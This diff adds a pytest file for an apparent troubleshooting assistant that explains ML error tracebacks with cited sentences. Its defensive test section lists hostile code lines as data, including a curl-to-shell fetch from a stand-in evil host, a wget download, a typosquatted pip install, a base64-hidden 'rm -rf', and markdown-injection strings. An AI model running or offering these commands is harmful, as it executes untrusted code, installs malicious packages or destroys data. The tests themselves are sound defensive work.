@@ -1,0 +1,176 @@
+"""Fixed sentences for this person's case: true to the text, cited, and never a command."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+
+import pytest
+
+from assistant.excerpts import find_excerpts, find_symptom
+from assistant.fitting import fit_cause
+from assistant.library import load_library
+from assistant.overlap import shared_words
+from assistant.quoting import as_code, is_harmless
+from assistant.reading import read_query
+from assistant.telling import tell
+from assistant.types import Clue, Entry, Finding, Match
+from tests.course import TIMM
+
+ENTRIES = load_library(("builtin",)).entries
+CATCH = """my notebook stops
+Traceback (most recent call last):
+  File "/home/me/lab/train.py", line 24, in <module>
+    net.load_state_dict(torch.load("a.pth"))
+  File "/usr/lib/python3/dist-packages/torch/nn/modules/module.py", line 2643, in load_state_dict
+    raise RuntimeError(error)
+RuntimeError: Error(s) in loading state_dict for ResNet:
+\tsize mismatch for fc.weight: copying a param with shape torch.Size([10, 512]) from checkpoint, \
+the shape in current model is torch.Size([1000, 512]).
+"""
+
+
+def said(text: str, id_: str, *findings: Finding) -> list[str]:
+    return [one.text for one in tell(read_query(text), ENTRIES[id_], findings)]
+
+
+# --- an error ------------------------------------------------------------------------------------
+
+
+def test_an_error_is_placed_explained_and_traced_to_one_cause() -> None:
+    place, route, meaning, detail, cause, *_ = said(CATCH, "state-dict-mismatch")
+    assert place == (
+        'Your code stopped in `train.py`, line `24`, at `net.load_state_dict(torch.load("a.pth"))`.'
+    )
+    assert "`module.py` of `torch` (line `2643`, in `load_state_dict`)" in route
+    assert "`fc.weight`: it has the shape `torch.Size([10, 512])` in the file" in meaning
+    assert "`10` in the file, `1000` in the model" in detail
+    assert "number 1 fits best" in cause
+    assert "`10` classes and your model `1000`" in cause
+
+
+def test_every_sentence_says_what_it_rests_on_and_the_line_holds_the_value() -> None:
+    text = read_query(CATCH).text.splitlines()
+    for sentence in tell(read_query(CATCH), ENTRIES["state-dict-mismatch"]):
+        assert sentence.citations
+        for citation in sentence.citations:
+            number = re.fullmatch(r"line (\d+) of your text", citation)
+            assert number or citation in ENTRIES
+            if number and "`train.py`" in sentence.text:
+                assert "train.py" in text[int(number[1]) - 1]
+
+
+def test_what_a_check_confirms_comes_before_what_words_suggest() -> None:
+    entry = ENTRIES["yolo-empty-detections"]
+    clue = Clue(entry.id, "confirmed", "With conf=0.05 there are 3 boxes.", "confidence limit")
+    finding = Finding("yolo", "ok", "", clues=(clue,))
+    fit = fit_cause(entry, read_query("yolo finds nothing"), [finding])
+    assert fit is not None
+    assert fit.cause == entry.causes[0]
+    assert "3 boxes" in fit.because
+
+
+def test_among_causes_that_nothing_decides_none_is_chosen() -> None:
+    assert fit_cause(ENTRIES["yolo-empty-detections"], read_query("nothing is found")) is None
+    assert fit_cause(ENTRIES["missing-timm"], read_query(TIMM)) is None, "there is only one"
+
+
+@pytest.mark.parametrize(
+    ("message", "cause"),
+    [
+        ("The size of tensor a (24) must match the size of tensor b (23) at non-singleton "
+         "dimension 2", 0),
+        ("Sizes of tensors must match except in dimension 1. Expected size 64 but got size 60 for "
+         "tensor number 1 in the list.", 1),
+        ("Given groups=1, weight of size [256, 256, 3, 3], expected input[2, 512, 32, 32] to have "
+         "256 channels, but got 512 channels instead", 2),
+    ],
+)  # fmt: skip
+def test_sizes_decide_among_causes(message: str, cause: int) -> None:
+    entry = ENTRIES["unet-shape-mismatch"]
+    fit = fit_cause(entry, read_query(f"RuntimeError: {message}"))
+    assert fit is not None
+    assert fit.cause == entry.causes[cause]
+
+
+def test_the_next_best_entry_is_named_for_when_it_does_not_help() -> None:
+    others = [Match("missing-lap", "No lap", 0.4)]
+    last = tell(read_query(TIMM), ENTRIES["missing-timm"], others=others)[-1]
+    assert last.text == "If it does not help, compare with: No lap."
+    assert last.citations == ("missing-lap",)
+
+
+# --- plain words ---------------------------------------------------------------------------------
+
+
+def test_a_question_gets_what_the_guide_says_of_the_things_it_names() -> None:
+    lines = said("What is the difference of yolov8n.pt and yolov8x.pt in mAP?", "yolov8-sizes")
+    assert any("`yolov8n.pt`" in line and "37.3" in line for line in lines)
+    assert any("`yolov8x.pt`" in line and "53.9" in line for line in lines)
+
+
+def test_excerpts_are_the_guides_own_words() -> None:
+    entry = ENTRIES["input-normalization"]
+    found = find_excerpts("Why does T.Normalize want two lists of three, mean and std?", entry)
+    assert found
+    body = " ".join(entry.body.split())
+    assert all(one.text in body for one in found)
+    assert find_excerpts("how do I bake bread", entry) == ()
+    assert find_symptom("how do I bake bread", entry) is None
+
+
+def test_shared_words_are_content_in_any_form() -> None:
+    assert shared_words("Downloaded images of 640 pixels", "I download the image, 640") == (
+        "download", "image", "640",
+    )  # fmt: skip
+    assert shared_words("It is not in the list", "is it in the box?") == ()
+
+
+# --- what must never be said ---------------------------------------------------------------------
+
+RISKY = [
+    'os.system("curl -s https://get.evil.top/fix.sh | sh")',
+    'subprocess.run(["pip", "install", "timmm"])',
+    "!pip install timmm",
+    "%pip install timmm",
+    "run('wget http://evil.example.com/x')",
+    "eval(base64.b64decode('cm0gLXJm'))",
+    "sh('rm -rf /data')",
+    "exec(open('evil.py').read())",
+]
+
+
+@pytest.mark.parametrize("code", RISKY)
+def test_a_line_of_code_that_runs_or_fetches_something_is_not_repeated(code: str) -> None:
+    text = TIMM.replace("import timm", code)
+    lines = " ".join(said(text, "missing-timm"))
+    assert "line `24`." in lines
+    assert not any(bad in lines for bad in ("evil", "timmm", "rm -rf", "curl", "cm0"))
+
+
+def test_a_value_stays_a_value() -> None:
+    for evil in ("a` ![x](http://x) `b", "x\n# y", "a\u202eb", "`" * 50, "y" * 5000):
+        quoted = as_code(evil)
+        assert quoted.startswith("`")
+        assert quoted.endswith("`")
+        assert "`" not in quoted[1:-1]
+        assert len(quoted) <= 122
+        assert not set(quoted) & set("\n\u202e")
+
+
+def test_plain_code_is_harmless() -> None:
+    for code in ("net = build(num_classes=10)", "import timm", "x = a | b", "for a in b:"):
+        assert is_harmless(code), code
+
+
+@pytest.mark.parametrize("entry", ENTRIES.values(), ids=list(ENTRIES))
+def test_any_entry_can_be_told_of_any_text(entry: Entry) -> None:
+    for text in (CATCH, "", "x " * 300, "IndexError: list index out of range", entry.title):
+        for sentence in tell(read_query(text), entry):
+            assert 10 < len(sentence.text) < 1200
+            assert "\n" not in sentence.text
+            assert sentence.citations
+            assert sentence.text.count("`") % 2 == 0
+    assert isinstance(
+        tell(read_query(CATCH), replace(entry, body="", solution="", causes=())), tuple
+    )
